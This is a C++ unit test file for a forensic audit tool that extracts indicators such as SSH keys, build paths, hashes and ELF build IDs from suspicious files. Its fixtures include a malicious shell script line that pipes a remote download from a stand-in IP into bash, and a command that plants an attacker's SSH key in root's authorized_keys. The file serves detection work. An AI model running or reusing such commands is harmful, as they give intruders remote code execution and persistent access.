#include "audit/traits.h"

#include "gtest/gtest.h"

namespace lazaret::audit {
namespace {

const std::string ed25519 = "AAAAC3NzaC1lZDI1NTE5AAAAI" + std::string(43, 'B');

std::vector<std::string> values(const std::vector<Trait>& traits, std::string_view type) {
  std::vector<std::string> found;
  for (const Trait& trait : traits) {
    if (trait.type == type) found.push_back(trait.value);
  }
  return found;
}

TEST(Traits, SshKeysByTheirBodyWhateverTheComment) {
  EXPECT_EQ(ssh_public_keys("echo 'ssh-ed25519 " + ed25519 + " root@mail' >> /mnt/root/.ssh/authorized_keys; ssh-ed25519 " + ed25519 + " other"),
            std::vector<std::string>{ed25519});
  EXPECT_TRUE(ssh_public_keys("ssh-rsa AAAAB3NzaC1yc2E").empty()) << "cut off";
  EXPECT_TRUE(ssh_public_keys("AAAA" + std::string(200, 'A')).empty());
  for (std::size_t size = 0; size < ed25519.size(); ++size) EXPECT_TRUE(ssh_public_keys(std::string_view(ed25519).substr(0, size)).empty());
}

TEST(Traits, BuildPathsNameTheProjectAndNotTheFile) {
  const std::string program = std::string("\0/home/kai/xmr/src/main.cpp\0/home/kai/xmr/src/net.cpp:12\0/root/bot/x.go\0/usr/include/a.h\0/home/kai\0/home/a.c", 98);
  EXPECT_EQ(build_paths(as_bytes(program)), (std::vector<std::string>{"/home/kai/xmr", "/root/bot"}));
  EXPECT_TRUE(build_paths({}).empty());
}

TEST(Traits, OfAScriptThatSomethingWasFoundIn) {
  const std::string text = "#!/bin/sh\ncurl -s http://192.0.2.7:8220/logo.jpg | bash -s\necho ssh-ed25519 " + ed25519 + " >> /mnt/root/.ssh/authorized_keys\n";
  TraitSource source;
  source.path = "/usr/bin/run";
  source.content = as_bytes(text);
  source.type = {format::FileKind::script, format::Language::shell};
  source.sha256 = sha256(as_bytes(text));
  std::vector<Trait> traits;
  collect_traits(source, traits);
  EXPECT_TRUE(traits.empty()) << "nothing was found in it, and it lies where packages put theirs";
  source.flagged = true;
  collect_traits(source, traits);
  EXPECT_EQ(values(traits, "ssh-key"), std::vector<std::string>{ed25519});
  EXPECT_EQ(values(traits, "file-sha256"), std::vector<std::string>{source.sha256.hex()});
  EXPECT_EQ(values(traits, "script-shape").size(), 1u);
  const std::size_t count = traits.size();
  collect_traits(source, traits);
  EXPECT_EQ(traits.size(), count) << "each once";
}

TEST(Traits, OfAProgramOutsideOfPackageFolders) {
  format::ElfFile elf;
  elf.build_id = "0123abcd";
  TraitSource source;
  source.path = "/opt/x";
  const std::string content = "\x7f""ELF";
  source.content = as_bytes(content);
  source.type.kind = format::FileKind::elf;
  source.sha256 = sha256(source.content);
  source.elf = &elf;
  std::vector<Trait> traits;
  collect_traits(source, traits);
  EXPECT_EQ(values(traits, "build-id"), std::vector<std::string>{"0123abcd"});
  EXPECT_EQ(values(traits, "file-sha256").size(), 1u);
  traits.clear();
  source.path = "/usr/lib/x";
  collect_traits(source, traits);
  EXPECT_TRUE(traits.empty());
}

}  // namespace
}  // namespace lazaret::audit
